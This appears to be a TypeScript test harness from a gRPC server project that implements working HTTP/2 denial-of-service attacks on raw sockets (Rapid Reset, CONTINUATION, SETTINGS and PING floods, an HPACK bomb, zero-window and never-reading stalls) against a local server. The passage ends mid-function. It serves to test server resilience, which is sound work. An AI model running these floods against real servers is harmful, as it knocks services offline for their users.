// Issue 15: the known HTTP/2 denial-of-service classes, as attackers that write bytes on raw sockets. Each
// attack is `(port, { scale, maxMs }) => Promise<AttackReport>`: `scale` (0..1] multiplies the full counts
// (those the issue measured; the bench runs scale 1, the tests small ones), `maxMs` bounds the time; every
// loop stops by itself at whichever comes first, and every socket is destroyed before the attack resolves
// ("the attacker leaves"). An attacker reads the server's frames (to follow its flow-control windows and
// see GOAWAY) or deliberately never reads them, as its attack requires. Frames come from src/h2/frames.ts
// and header blocks from src/h2/hpack.ts; the HPACK bomb writes its indexed representations by hand, since
// encodeHeaders never indexes.
//
// Nothing here judges the server: the report says what was sent and what the attacker saw (closed by the
// server, GOAWAY code, RST_STREAMs); test/helpers/attack-harness.ts measures the server around an attack.
import { connect, type Socket } from 'node:net';
import {
  CLIENT_PREFACE,
  encodeFrame,
  encodeRstStream,
  encodeSettings,
  encodeWindowUpdate,
  ErrorCode,
  errorName,
  Flag,
  FrameReader,
  FrameType,
  MAX_WINDOW,
  Setting,
  type Frame,
} from '../../src/h2/frames.ts';
import { encodeHeaders, type HeaderList } from '../../src/h2/hpack.ts';
import { HEALTH_CHECK_PATH, SAY_HELLO_PATH } from '../../src/rpc-names.ts';
import { grpcFrame, helloRequest } from './raw-grpc.ts';

export interface AttackOptions {
  /** fraction of the full counts (1: the figures) */
  scale: number;
  /** hard bound on the attack's duration, sending and holding included */
  maxMs: number;
  /** after sending, how long the attacker keeps its connections (and what they hold) before leaving; default 1000 */
  holdMs?: number;
  host?: string;
}

export interface AttackReport {
  attack: string;
  connections: number;
  /** the unit of the attack that was repeated: requests, streams, frames, bytes of preface */
  units: number;
  unitName: string;
  /** what the full scale would send, for comparison */
  planned: number;
  bytesSent: number;
  bytesReceived: number;
  /** connections the server closed (or reset) before the attacker left */
  closedByServer: number;
  /** ms from the attack's start to the last of those closes */
  lastCloseMs?: number;
  /** GOAWAY codes the attacker read (only attackers that read see them) */
  goaways: string[];
  rstReceived: number;
  /** 'count' all sent; 'time' maxMs ran out; 'closed' the server closed the connection(s); 'stalled' the server stopped reading or granting window until maxMs */
  stoppedBy: 'count' | 'time' | 'closed' | 'stalled';
  ms: number;
  notes: string[];
}

export type Attack = (port: number, options: AttackOptions) => Promise<AttackReport>;

export interface AttackEntry {
  name: string;
  /** what the attack does, at full scale */
  what: string;
  run: Attack;
  /** holds up to 100k open streams at full scale: the issue allows +128 MB while it runs */
  manyStreams?: boolean;
}

// --- one connection ------------------------------------------------------------------------------------

const DEFAULT_WINDOW = 65_535;
const MAX_FRAME = 16_384;
/** A wait for the server (to read, to grant window) this long that the deadline ends is the server holding off, not a slow start. */
const STALL_MS = 1000;

/** One attacker connection: writes with backpressure, and (when it reads) follows the server's windows. */
export class AttackConn {
  closed = false;
  /** closed by the server (a FIN or RST the attacker did not cause) */
  byServer = false;
  closedAt: number | undefined;
  goaway: string | undefined;
  rstReceived = 0;
  bytesReceived = 0;
  bytesSent = 0;
  /** the server's receive windows, as far as this client knows them (it reads) */
  connWindow = DEFAULT_WINDOW;
  peerInitialWindow = DEFAULT_WINDOW;
  /** the server's SETTINGS came (and the attacker acknowledged them, when it reads) */
  settingsSeen = false;
  /** streams the server ended (END_STREAM) or reset */
  readonly serverEnded = new Set<number>();
  readonly #streamCredit = new Map<number, number>();
  readonly #reader = new FrameReader();
  readonly #waiters = new Set<() => void>();
  #leaving = false;
  #reading: boolean;
  /** the preface went out: only then may this client acknowledge the server's SETTINGS */
  #prefaceSent = false;
  readonly #pings = new Set<string>();

  private constructor(
    readonly socket: Socket,
    reading: boolean,
    private readonly t0: number,
  ) {
    this.#reading = reading;
    socket.setMaxListeners(0); // many streams may wait for 'drain' at once
    if (reading) socket.on('data', this.#onData);
    socket.on('error', () => {}); // 'close' follows
    socket.on('close', () => {
      this.closed = true;
      if (!this.#leaving) {
        this.byServer = true;
        this.closedAt = performance.now() - this.t0;
      }
      this.#wake();
    });
  }

  /**
   * Connects to 127.0.0.1:port; with `preface`, sends the preface and SETTINGS (`settings`) and any `extra`
   * bytes at once. `read`: 'always', 'never', or 'until-settings' (reads the server's SETTINGS and first
   * window, acknowledges them, then never reads again: the windows known then are all it will ever know).
   */
  static async open(
    port: number,
    options: { read: 'always' | 'never' | 'until-settings'; preface?: boolean; settings?: Array<[number, number]>; extra?: Buffer; t0: number; host?: string; deadline: number },
  ): Promise<AttackConn> {
    const socket = connect({ host: options.host ?? '127.0.0.1', port });
    const conn = new AttackConn(socket, options.read !== 'never', options.t0);
    await new Promise<void>((resolve, reject) => {
      const timer = setTimeout(() => reject(new Error(`no TCP connection to port ${port}`)), Math.max(1000, options.deadline - performance.now()));
      socket.once('connect', () => {
        clearTimeout(timer);
        resolve();
      });
      socket.once('error', (err) => {
        clearTimeout(timer);
        reject(err);
      });
    });
    if (!(options.preface ?? true)) return conn;
    conn.#prefaceSent = true;
    conn.write(Buffer.concat([CLIENT_PREFACE, encodeSettings(options.settings ?? [])]));
    if (options.read !== 'never') {
      // the server's SETTINGS (acknowledged before the attack starts: an ACK in the middle of, say, an open
      // header block would be the attacker's own protocol error) and, right behind them, its connection
      // WINDOW_UPDATE if it sends one
      await conn.until(() => conn.settingsSeen || conn.closed, Math.min(options.deadline, performance.now() + 3000));
      await new Promise((r) => setTimeout(r, 20));
    }
    if (options.read === 'until-settings') conn.stopReading();
    if (options.extra) conn.write(options.extra);
    return conn;
  }

  stopReading(): void {
    this.#reading = false;
    this.socket.off('data', this.#onData);
    this.socket.pause();
  }

  #onData = (chunk: Buffer): void => {
    this.bytesReceived += chunk.length;
    try {
      this.#reader.read(chunk, (frame) => this.#onFrame(frame));
    } catch {
      this.socket.destroy(); // not HTTP/2 the attacker can read: it leaves
    }
    this.#wake();
  };

  #onFrame(frame: Frame): void {
    switch (frame.type) {
      case FrameType.SETTINGS:
        if (frame.flags & Flag.ACK) return;
        for (let at = 0; at + 6 <= frame.payload.length; at += 6) {
          if (frame.payload.readUInt16BE(at) === Setting.INITIAL_WINDOW_SIZE) this.peerInitialWindow = frame.payload.readUInt32BE(at + 2);
        }
        this.settingsSeen = true;
        if (this.#reading && this.#prefaceSent) this.write(encodeFrame(FrameType.SETTINGS, Flag.ACK, 0));
        return;
      case FrameType.WINDOW_UPDATE: {
        const increment = frame.payload.readUInt32BE(0) & MAX_WINDOW;
        if (frame.streamId === 0) this.connWindow += increment;
        else this.#streamCredit.set(frame.streamId, (this.#streamCredit.get(frame.streamId) ?? 0) + increment);
        return;
      }
      case FrameType.RST_STREAM:
        this.rstReceived++;
        this.serverEnded.add(frame.streamId);
        return;
      case FrameType.HEADERS:
      case FrameType.DATA:
        if (frame.flags & Flag.END_STREAM) this.serverEnded.add(frame.streamId);
        return;
      case FrameType.GOAWAY:
        this.goaway = errorName(frame.payload.readUInt32BE(4));
        return;
      case FrameType.PING:
        if (frame.flags & Flag.ACK) this.#pings.delete(frame.payload.toString('hex'));
        return;
      default:
        return;
    }
  }

  /** The server's window for DATA on `streamId`: its initial window, what it granted, less what was sent. */
  streamWindow(streamId: number): number {
    return this.peerInitialWindow + (this.#streamCredit.get(streamId) ?? 0);
  }

  /** Counts DATA bytes against both windows. */
  spend(streamId: number, n: number): void {
    this.connWindow -= n;
    this.#streamCredit.set(streamId, (this.#streamCredit.get(streamId) ?? 0) - n);
  }

  forget(streamId: number): void {
    this.#streamCredit.delete(streamId);
  }

  write(bytes: Buffer): boolean {
    if (this.closed) return false;
    this.bytesSent += bytes.length;
    return this.socket.write(bytes);
  }

  /**
   * Writes, then waits (until `deadline`) for the socket to take more: 'ok', 'closed', 'stalled' (the server
   * read nothing for over STALL_MS until the deadline) or 'time' (the deadline came while it still read).
   */
  async send(bytes: Buffer, deadline: number): Promise<'ok' | 'closed' | 'stalled' | 'time'> {
    if (this.closed) return 'closed';
    if (this.write(bytes)) return 'ok';
    const since = performance.now();
    return new Promise((resolve) => {
      const done = (how: 'ok' | 'closed' | 'stalled' | 'time') => {
        clearTimeout(timer);
        this.socket.off('drain', onDrain);
        this.#waiters.delete(onClose);
        resolve(how);
      };
      const onDrain = () => done('ok');
      const onClose = () => this.closed && done('closed');
      const timer = setTimeout(() => done(performance.now() - since >= STALL_MS ? 'stalled' : 'time'), Math.max(0, deadline - performance.now()));
      this.socket.on('drain', onDrain);
      this.#waiters.add(onClose);
    });
  }

  /** Resolves true once `check()` holds, false at `deadline` (checked again on every frame and on close). */
  until(check: () => boolean, deadline: number): Promise<boolean> {
    if (check()) return Promise.resolve(true);
    return new Promise((resolve) => {
      const attempt = () => {
        if (!check()) return;
        clearTimeout(timer);
        this.#waiters.delete(attempt);
        resolve(true);
      };
      const timer = setTimeout(
        () => {
          this.#waiters.delete(attempt);
          resolve(check());
        },
        Math.max(0, deadline - performance.now()),
      );
      this.#waiters.add(attempt);
    });
  }

  /** A PING whose ACK says the server has handled every frame sent before it (for an attacker that reads). */
  async caughtUp(deadline: number): Promise<boolean> {
    if (this.closed || !this.#reading) return false;
    const payload = Buffer.alloc(8);
    payload.writeDoubleBE(Math.random());
    const key = payload.toString('hex');
    this.#pings.add(key);
    if ((await this.send(encodeFrame(FrameType.PING, 0, 0, payload), deadline)) !== 'ok') return false;
    return this.until(() => !this.#pings.has(key) || this.closed, deadline);
  }

  /** The attacker leaves: the socket is destroyed (an RST if unread bytes wait; the server sees it go). */
  leave(): void {
    this.#leaving = true;
    this.socket.destroy();
  }

  #wake(): void {
    for (const waiter of [...this.#waiters]) waiter();
  }
}

// --- building blocks -----------------------------------------------------------------------------------

const sleep = (ms: number) => new Promise((r) => setTimeout(r, Math.max(0, ms)));

export function requestHeaders(path: string, extra: HeaderList = []): HeaderList {
  return [
    [':method', 'POST'],
    [':scheme', 'http'],
    [':path', path],
    [':authority', '127.0.0.1'],
    ['content-type', 'application/grpc'],
    ['te', 'trailers'],
    ...extra,
  ];
}

/** A SayHello message (gRPC frame) whose answer is about `bytes` long. */
export function sayHelloMessage(bytes: number): Buffer {
  return grpcFrame(helloRequest('x'.repeat(Math.max(1, bytes))));
}

/** An empty HealthCheckRequest (service ""): the whole server. */
const HEALTH_MESSAGE = grpcFrame(Buffer.alloc(0));
/**
 * What sends a health Check to grpc-js (forward.ts) rather than the front door's own answer (health-check.ts):
 * a grpc-encoding, which grpc-js takes for an uncompressed message too. These attacks are on the forwarded path.
 */
const FORWARDED: HeaderList = [['grpc-encoding', 'gzip']];
const SMALL_HELLO = sayHelloMessage(5);

const headersFrame = (streamId: number, path: string, flags: number = Flag.END_HEADERS, extra: HeaderList = []) =>
  encodeFrame(FrameType.HEADERS, flags, streamId, encodeHeaders(requestHeaders(path, extra)));

/** DATA frames of at most 16 KiB carrying `body`, END_STREAM on the last one when `endStream`. */
function dataFrames(streamId: number, body: Buffer, endStream: boolean): Buffer[] {
  const frames: Buffer[] = [];
  for (let at = 0; at < body.length || frames.length === 0; at += MAX_FRAME) {
    const last = at + MAX_FRAME >= body.length;
    frames.push(encodeFrame(FrameType.DATA, last && endStream ? Flag.END_STREAM : 0, streamId, body.subarray(at, at + MAX_FRAME)));
  }
  return frames;
}

function report(attack: string, t0: number, conns: AttackConn[], fields: Partial<AttackReport> & Pick<AttackReport, 'units' | 'unitName' | 'planned' | 'stoppedBy'>): AttackReport {
  const closes = conns.filter((c) => c.byServer).map((c) => c.closedAt ?? 0);
  const goaways = [...new Set(conns.map((c) => c.goaway).filter((g): g is string => g !== undefined))];
  return {
    attack,
    connections: conns.length,
    bytesSent: conns.reduce((n, c) => n + c.bytesSent, 0),
    bytesReceived: conns.reduce((n, c) => n + c.bytesReceived, 0),
    closedByServer: closes.length,
    ...(closes.length ? { lastCloseMs: Math.round(Math.max(...closes)) } : {}),
    goaways,
    rstReceived: conns.reduce((n, c) => n + c.rstReceived, 0),
    ms: Math.round(performance.now() - t0),
    ...fields,
    notes: [...new Set(fields.notes ?? [])],
  };
}

/** Keeps the connections (and whatever the server holds for them) for `holdMs`, at most until `deadline`, then leaves. */
async function holdAndLeave(conns: AttackConn[], holdMs: number, deadline: number, ping = true): Promise<void> {
  // an attacker that reads first waits for the server to have handled everything it sent
  if (ping) await Promise.all(conns.map((c) => c.caughtUp(deadline)));
  await sleep(Math.min(holdMs, deadline - performance.now()));
  for (const c of conns) c.leave();
}

const scaled = (full: number, scale: number) => Math.max(1, Math.round(full * scale));

/**
 * A repeated unit of frames: `unit` has stream ids relative to the unit (1, 3, ...; 0 stays 0), renumbered
 * for each repetition when `perStream`, so every repetition opens new streams. DATA in the unit counts
 * against the connection window, which an attacker that reads waits for.
 */
interface FloodSpec {
  name: string;
  read: 'always' | 'never';
  settings?: Array<[number, number]>;
  /** frames sent once, right after the preface */
  preamble?: Buffer;
  unit: Buffer[];
  perStream: boolean;
  /** the first stream id the units use (after any the preamble opened) */
  firstStream?: number;
  full: number;
  unitName: string;
  connections?: number;
  /** the units leave a header block open: the PING that checks the server caught up would be a protocol error */
  inHeaderBlock?: boolean;
}

interface UnitTemplate {
  bytes: Buffer;
  /** [offset of a stream id, its relative id] */
  ids: Array<[number, number]>;
  streams: number;
  dataBytes: number;
}

function template(unit: Buffer[]): UnitTemplate {
  const ids: Array<[number, number]> = [];
  let offset = 0;
  let streams = 0;
  let dataBytes = 0;
  for (const frame of unit) {
    const rel = frame.readUInt32BE(5) & MAX_WINDOW;
    if (rel !== 0) {
      ids.push([offset + 5, rel]);
      streams = Math.max(streams, (rel + 1) / 2);
    }
    if (frame[3] === FrameType.DATA) dataBytes += frame.readUIntBE(0, 3);
    offset += frame.length;
  }
  return { bytes: Buffer.concat(unit), ids, streams, dataBytes };
}

/** `count` repetitions of the unit, the first numbered `firstUnit`. */
function batch(t: UnitTemplate, perStream: boolean, firstStream: number, firstUnit: number, count: number): Buffer {
  const out = Buffer.allocUnsafe(t.bytes.length * count);
  for (let i = 0; i < count; i++) {
    const at = i * t.bytes.length;
    t.bytes.copy(out, at);
    if (!perStream) continue;
    const base = firstStream + 2 * t.streams * (firstUnit + i);
    for (const [offset, rel] of t.ids) out.writeUInt32BE(base + rel - 1, at + offset);
  }
  return out;
}

/** The highest stream id a client may use. */
const MAX_STREAM_ID = MAX_WINDOW;

async function flood(port: number, options: AttackOptions, spec: FloodSpec): Promise<AttackReport> {
  const t0 = performance.now();
  const deadline = t0 + options.maxMs;
  const total = scaled(spec.full, options.scale);
  const t = template(spec.unit);
  const perBatch = Math.max(1, Math.min(8192, Math.floor(64 * 1024 / t.bytes.length)));
  const firstStream = spec.firstStream ?? 1;
  const maxUnits = spec.perStream ? Math.floor((MAX_STREAM_ID - firstStream) / (2 * t.streams)) : Infinity;
  const conns = await Promise.all(
    Array.from({ length: spec.connections ?? 1 }, () =>
      AttackConn.open(port, { read: spec.read, settings: spec.settings, extra: spec.preamble, t0, host: options.host, deadline }),
    ),
  );
  const notes: string[] = [];
  let stoppedBy: AttackReport['stoppedBy'] = 'count';
  const sentPer = await Promise.all(
    conns.map(async (conn, c) => {
      const mine = Math.floor(total / conns.length) + (c < total % conns.length ? 1 : 0);
      let sent = 0;
      while (sent < mine) {
        if (performance.now() >= deadline) {
          stoppedBy = 'time';
          break;
        }
        if (sent >= maxUnits) {
          notes.push('stream ids ran out');
          break;
        }
        const n = Math.min(perBatch, mine - sent, maxUnits - sent);
        if (t.dataBytes > 0 && spec.read === 'always') {
          const since = performance.now();
          const ok = await conn.until(() => conn.connWindow >= n * t.dataBytes || conn.closed, deadline);
          if (!ok) {
            stoppedBy = performance.now() - since >= STALL_MS ? 'stalled' : 'time';
            if (stoppedBy === 'stalled') notes.push(`the server granted no more connection window for ${Math.round(performance.now() - since)} ms`);
            break;
          }
          conn.connWindow -= n * t.dataBytes;
        }
        const how = await conn.send(batch(t, spec.perStream, firstStream, sent, n), deadline);
        if (how === 'closed') {
          stoppedBy = 'closed';
          break;
        }
        sent += n;
        if (how === 'stalled' || how === 'time') {
          stoppedBy = how;
          if (how === 'stalled') notes.push(`the server stopped reading (for over ${STALL_MS} ms, until the deadline)`);
          break;
        }
        // let the sampler, the probes and the reading side have the event loop
        if (sent % (perBatch * 8) === 0) await new Promise((r) => setImmediate(r));
      }
      return sent;
    }),
  );
  await holdAndLeave(conns, options.holdMs ?? 1000, deadline, !spec.inHeaderBlock);
  return report(spec.name, t0, conns, { units: sentPer.reduce((a, b) => a + b, 0), unitName: spec.unitName, planned: spec.full, stoppedBy, notes });
}

/**
 * Requests with bodies, one after another on one connection, each sent as the server's windows allow: the
 * attacker reads, to follow those windows. `settings` of the attacker (INITIAL_WINDOW_SIZE 0: the server may
 * send no DATA at all).
 */
async function requests(
  port: number,
  options: AttackOptions,
  spec: {
    name: string;
    path: string;
    fields?: HeaderList;
    body: Buffer;
    full: number;
    settings: Array<[number, number]>;
    extra?: Buffer;
    read?: 'always' | 'until-settings';
    connections?: number;
  },
): Promise<AttackReport> {
  const t0 = performance.now();
  const deadline = t0 + options.maxMs;
  const total = scaled(spec.full, options.scale);
  const read = spec.read ?? 'always';
  const conns = await Promise.all(
    Array.from({ length: spec.connections ?? 1 }, () => AttackConn.open(port, { read, settings: spec.settings, extra: spec.extra, t0, host: options.host, deadline })),
  );
  const headers = encodeHeaders(requestHeaders(spec.path, spec.fields));
  let stoppedBy: AttackReport['stoppedBy'] = 'count';
  const notes: string[] = [];
  const sentPer = await Promise.all(
    conns.map(async (conn, c) => {
      const mine = Math.floor(total / conns.length) + (c < total % conns.length ? 1 : 0);
      let sent = 0;
      let pending: Buffer[] = [];
      /** sends what is pending; false when the attack on this connection is over (and why is noted) */
      const flush = async () => {
        const how = pending.length ? await conn.send(Buffer.concat(pending), deadline) : 'ok';
        pending = [];
        if (how === 'stalled') notes.push(`the server stopped reading (for over ${STALL_MS} ms, until the deadline)`);
        if (how !== 'ok') stoppedBy = how;
        return how === 'ok';
      };
      requests: for (let i = 0; i < mine; i++) {
        const id = 1 + 2 * i;
        pending.push(encodeFrame(FrameType.HEADERS, Flag.END_HEADERS, id, headers));
        for (let at = 0; at < spec.body.length; ) {
          const room = Math.min(MAX_FRAME, spec.body.length - at, conn.connWindow, conn.streamWindow(id));
          if (room <= 0) {
            if (!(await flush())) break requests;
            if (read === 'until-settings') {
              notes.push('the windows the attacker saw before it stopped reading were spent');
              stoppedBy = 'stalled';
              break requests;
            }
            const since = performance.now();
            const granted = await conn.until(() => conn.closed || conn.serverEnded.has(id) || (conn.connWindow > 0 && conn.streamWindow(id) > 0), deadline);
            if (conn.closed) break requests;
            if (!granted) {
              stoppedBy = performance.now() - since >= STALL_MS ? 'stalled' : 'time';
              if (stoppedBy === 'stalled') notes.push(`the server granted no more window (for over ${STALL_MS} ms, until the deadline)`);
              break requests;
            }
            if (conn.serverEnded.has(id)) break;
            continue;
          }
          const last = at + room >= spec.body.length;
          pending.push(encodeFrame(FrameType.DATA, last ? Flag.END_STREAM : 0, id, spec.body.subarray(at, at + room)));
          conn.spend(id, room);
          at += room;
          if (pending.length >= 64 && !(await flush())) break requests;
        }
        conn.forget(id);
        sent++;
        if ((pending.length >= 16 || i === mine - 1) && !(await flush())) break;
        if (performance.now() >= deadline) {
          stoppedBy = 'time';
          break;
        }
        if (i % 64 === 63) await new Promise((r) => setImmediate(r));
      }
      if (conn.closed && stoppedBy === 'count') stoppedBy = 'closed';
      return sent;
    }),
  );
  await holdAndLeave(conns, options.holdMs ?? 1000, deadline);
  return report(spec.name, t0, conns, { units: sentPer.reduce((a, b) => a + b, 0), unitName: 'requests', planned: spec.full, stoppedBy, notes });
}

// --- the attacks ---------------------------------------------------------------------------------------

const ZERO_WINDOW: Array<[number, number]> = [[Setting.INITIAL_WINDOW_SIZE, 0]];

/** 400 SayHellos with a 1 MB name (forwarded to grpc-js: larger than the fast path takes), answers the client's zero window holds back. */
export const zeroWindow1MB: Attack = (port, options) =>
  requests(port, options, { name: 'zero-window-1MB', path: SAY_HELLO_PATH, body: sayHelloMessage(1024 * 1024), full: 400, settings: ZERO_WINDOW });

/** 20,000 SayHellos with a 15 KB name (the fast path's), answers held back by the client's zero window. */
export const zeroWindow15KB: Attack = (port, options) =>
  requests(port, options, { name: 'zero-window-15KB', path: SAY_HELLO_PATH, body: sayHelloMessage(15 * 1024), full: 20_000, settings: ZERO_WINDOW });

/** 20,000 health Checks (forwarded to grpc-js) whose small answers the client's zero window holds back. */
export const zeroWindowHealth: Attack = (port, options) =>
  requests(port, options, { name: 'zero-window-health', path: HEALTH_CHECK_PATH, fields: FORWARDED, body: HEALTH_MESSAGE, full: 20_000, settings: ZERO_WINDOW });

/** HEADERS without END_HEADERS, then 1.5 M empty CONTINUATION frames (CVE-2024-27316 class): the block never grows, the frames do. */
export const continuationFlood: Attack = (port, options) =>
  flood(port, options, {
    name: 'continuation-flood',
    read: 'always',
    preamble: encodeFrame(FrameType.HEADERS, 0, 1, encodeHeaders(requestHeaders(SAY_HELLO_PATH))),
    unit: [encodeFrame(FrameType.CONTINUATION, 0, 1)],
    perStream: false,
    full: 1_500_000,
    unitName: 'CONTINUATION frames',
    inHeaderBlock: true,
  });

/** 2 M empty HEADERS frames (END_HEADERS, no fields), each opening a new stream (CVE-2019-9518 class). */
export const emptyHeadersFlood: Attack = (port, options) =>
  flood(port, options, {
    name: 'empty-headers-flood',
    read: 'always',
    unit: [encodeFrame(FrameType.HEADERS, Flag.END_HEADERS, 1)],
    perStream: true,
    full: 2_000_000,
    unitName: 'HEADERS frames',
  });

/** A SayHello stream, then 2 M empty DATA frames without END_STREAM on it (CVE-2019-9518). */
export const emptyDataFlood: Attack = (port, options) =>
  flood(port, options, {
    name: 'empty-data-flood',
    read: 'always',
    preamble: headersFrame(1, SAY_HELLO_PATH),
    unit: [encodeFrame(FrameType.DATA, 0, 1)],
    perStream: false,
    full: 2_000_000,
    unitName: 'DATA frames',
  });

/** 100k streams on `path` opened (HEADERS without END_STREAM) and never finished, on one connection. */
const openStreams =
  (name: string, path: string, fields: HeaderList = []): Attack =>
  (port, options) =>
    flood(port, options, { name, read: 'always', unit: [headersFrame(1, path, Flag.END_HEADERS, fields)], perStream: true, full: 100_000, unitName: 'streams' });

/** SayHello streams: the fast path's. */
export const openStreamsSayHello = openStreams('open-streams-sayhello', SAY_HELLO_PATH);

/** health Check streams: forwarded to grpc-js. */
export const openStreamsHealth = openStreams('open-streams-health', HEALTH_CHECK_PATH, FORWARDED);

/** 650k SETTINGS frames; the client never reads the ACKs (CVE-2019-9515). */
export const settingsFlood: Attack = (port, options) =>
  flood(port, options, {
    name: 'settings-flood',
    read: 'never',
    unit: [encodeSettings([[Setting.HEADER_TABLE_SIZE, 4096]])],
    perStream: false,
    full: 650_000,
    unitName: 'SETTINGS frames',
  });

/** 400k PINGs; the client never reads the ACKs (CVE-2019-9512). */
export const pingFlood: Attack = (port, options) =>
  flood(port, options, {
    name: 'ping-flood',
    read: 'never',
    unit: [encodeFrame(FrameType.PING, 0, 0, Buffer.alloc(8, 0x5a))],
    perStream: false,
    full: 400_000,
    unitName: 'PING frames',
  });

/** 400k SayHello streams each answered with a RST_STREAM the client provokes (WINDOW_UPDATE of 0); never read (MadeYouReset class). */
export const windowUpdate0Flood: Attack = (port, options) =>
  flood(port, options, {
    name: 'window-update-0-flood',
    read: 'never',
    unit: [headersFrame(1, SAY_HELLO_PATH), encodeWindowUpdate(1, 0)],
    perStream: true,
    full: 400_000,
    unitName: 'streams',
  });

/**
 * 400k health Checks without a message (HEADERS with END_STREAM: forwarded to grpc-js), each followed by an
 * empty DATA on the now half-closed stream, which the server must answer with RST_STREAM STREAM_CLOSED
 * while grpc-js still has the call; never read (MadeYouReset class). Empty DATA: no window spent.
 */
export const dataOnClosedFlood: Attack = (port, options) =>
  flood(port, options, {
    name: 'data-on-closed-flood',
    read: 'never',
    unit: [headersFrame(1, HEALTH_CHECK_PATH, Flag.END_HEADERS | Flag.END_STREAM), encodeFrame(FrameType.DATA, 0, 1)],
    perStream: true,
    full: 400_000,
    unitName: 'streams',
  });

/** CVE-2023-44487: complete requests (SayHello and forwarded health Check, alternately) each reset at once with RST_STREAM CANCEL; 1 M streams. */
export const rapidReset: Attack = (port, options) =>
  flood(port, options, {
    name: 'rapid-reset',
    read: 'always',
    unit: [
      headersFrame(1, SAY_HELLO_PATH),
      ...dataFrames(1, SMALL_HELLO, true),
      encodeRstStream(1, ErrorCode.CANCEL),
      headersFrame(3, HEALTH_CHECK_PATH, Flag.END_HEADERS, FORWARDED),
      ...dataFrames(3, HEALTH_MESSAGE, true),
      encodeRstStream(3, ErrorCode.CANCEL),
    ],
    perStream: true,
    full: 500_000,
    unitName: 'pairs of streams',
  });

// HPACK by hand: an entry added to the dynamic table, then referred to by index (RFC 7541 §6.1, §6.2.1)
function hpackInteger(first: number, prefixBits: number, value: number): number[] {
  const max = (1 << prefixBits) - 1;
  if (value < max) return [first | value];
  const out = [first | max];
  for (value -= max; value >= 128; value = Math.floor(value / 128)) out.push((value % 128) | 0x80);
  out.push(value);
  return out;
}
const hpackString = (text: string) => Buffer.concat([Buffer.from(hpackInteger(0, 7, text.length)), Buffer.from(text, 'latin1')]);
/** "Literal with incremental indexing, new name": the entry becomes dynamic index 62. */
const hpackIndexedLiteral = (name: string, value: string) => Buffer.concat([Buffer.from([0x40]), hpackString(name), hpackString(value)]);
/** Index 62: the newest dynamic table entry, one octet. */
const HPACK_NEWEST = 0x80 | 62;

/** Fits the default 4096-octet dynamic table (name + value + 32). */
const BOMB_VALUE = 'a'.repeat(4000);
/** References per request: about 1 MB of decoded headers, under a 1 MiB header-list limit. */
const BOMB_REFS = 250;

function bombRequests(name: string, path: string, full: number, body: Buffer, fields: HeaderList = []): Attack {
  return (port, options) => {
    const pseudo = encodeHeaders(requestHeaders(path, fields));
    const first = Buffer.concat([pseudo, hpackIndexedLiteral('x-bomb', BOMB_VALUE), Buffer.alloc(BOMB_REFS - 1, HPACK_NEWEST)]);
    const rest = Buffer.concat([pseudo, Buffer.alloc(BOMB_REFS, HPACK_NEWEST)]);
    return flood(port, options, {
      name,
      read: 'always',
      preamble: Buffer.concat([encodeFrame(FrameType.HEADERS, Flag.END_HEADERS, 1, first), ...dataFrames(1, body, true)]),
      unit: [encodeFrame(FrameType.HEADERS, Flag.END_HEADERS, 1, rest), ...dataFrames(1, body, true)],
      perStream: true,
      firstStream: 3,
      full,
      unitName: 'requests of ~1 MB decoded headers',
    });
  };
}

/** HPACK bomb: one 4 KB header indexed once, then 250 one-octet references per SayHello (fast path): ~1 MB decoded per ~300 bytes sent; 20,000 requests. */
export const hpackBomb: Attack = bombRequests('hpack-bomb', SAY_HELLO_PATH, 20_000, SMALL_HELLO);

/** The same ~1 MB of indexed headers on 2000 health Checks, which go to grpc-js. */
export const forwardedIndexedHeaders: Attack = bombRequests('forwarded-1MB-headers', HEALTH_CHECK_PATH, 2000, HEALTH_MESSAGE, FORWARDED);

/**
 * 100 SayHello streams whose message says 100 MB (length prefix) and whose bodies then come as fast as the
 * server's windows allow, until it ends the stream or time runs out.
 */
export const oversizedMessage: Attack = async (port, options) => {
  const t0 = performance.now();
  const deadline = t0 + options.maxMs;
  const full = 100;
  const streams = scaled(full, options.scale);
  const conn = await AttackConn.open(port, { read: 'always', t0, host: options.host, deadline });
  const prefix = Buffer.from([0, 0x06, 0x40, 0, 0]); // 100 MiB
  const zeros = Buffer.alloc(MAX_FRAME);
  let stoppedBy: AttackReport['stoppedBy'] = 'count';
  let bodyBytes = 0;
  let endedByServer = 0;
  const one = async (id: number) => {
    if ((await conn.send(Buffer.concat([headersFrame(id, SAY_HELLO_PATH), encodeFrame(FrameType.DATA, 0, id, prefix)]), deadline)) !== 'ok') return;
    conn.spend(id, prefix.length);
    for (let left = 100 * 1024 * 1024; left > 0; ) {
      if (conn.closed || performance.now() >= deadline) return;
      if (conn.serverEnded.has(id)) {
        endedByServer++;
        return;
      }
      const room = Math.min(MAX_FRAME, left, conn.connWindow, conn.streamWindow(id));
      if (room <= 0) {
        await conn.until(() => conn.closed || conn.serverEnded.has(id) || (conn.connWindow > 0 && conn.streamWindow(id) > 0), deadline);
        continue;
      }
      conn.spend(id, room);
      left -= room;
      bodyBytes += room;
      const how = await conn.send(encodeFrame(FrameType.DATA, left === 0 ? Flag.END_STREAM : 0, id, zeros.subarray(0, room)), deadline);
      if (how !== 'ok') return;
    }
  };
  await Promise.all(Array.from({ length: streams }, (_, i) => one(1 + 2 * i)));
  if (performance.now() >= deadline) stoppedBy = 'time';
  else if (conn.closed) stoppedBy = 'closed';
  await holdAndLeave([conn], options.holdMs ?? 1000, deadline);
  return report('oversized-message', t0, [conn], {
    units: streams,
    unitName: 'streams announcing 100 MB',
    planned: full,
    stoppedBy,
    notes: [`${(bodyBytes / 1048576).toFixed(1)} MB of body accepted; ${endedByServer} streams ended by the server`],
  });
};

/** 20 connections that never read (huge windows granted, so only TCP holds the answers back), each sending 15 KB SayHellos as long as the windows it saw allow. */
export const neverReading: Attack = (port, options) =>
  requests(port, options, {
    name: 'never-reading',
    path: SAY_HELLO_PATH,
    body: sayHelloMessage(15 * 1024),
    full: 20_000,
    settings: [[Setting.INITIAL_WINDOW_SIZE, MAX_WINDOW]],
    extra: encodeWindowUpdate(0, MAX_WINDOW - DEFAULT_WINDOW),
    read: 'until-settings',
    connections: Math.max(1, Math.round(20 * options.scale ** 0.5)),
  });

/** Opens `count` connections, at most 200 connecting at once. */
async function openMany(port: number, count: number, options: Parameters<typeof AttackConn.open>[1]): Promise<{ conns: AttackConn[]; failed: number }> {
  const conns: AttackConn[] = [];
  let failed = 0;
  for (let at = 0; at < count && performance.now() < options.deadline; at += 200) {
    const opened = await Promise.allSettled(Array.from({ length: Math.min(200, count - at) }, () => AttackConn.open(port, options)));
    for (const o of opened) if (o.status === 'fulfilled') conns.push(o.value);
    else failed++;
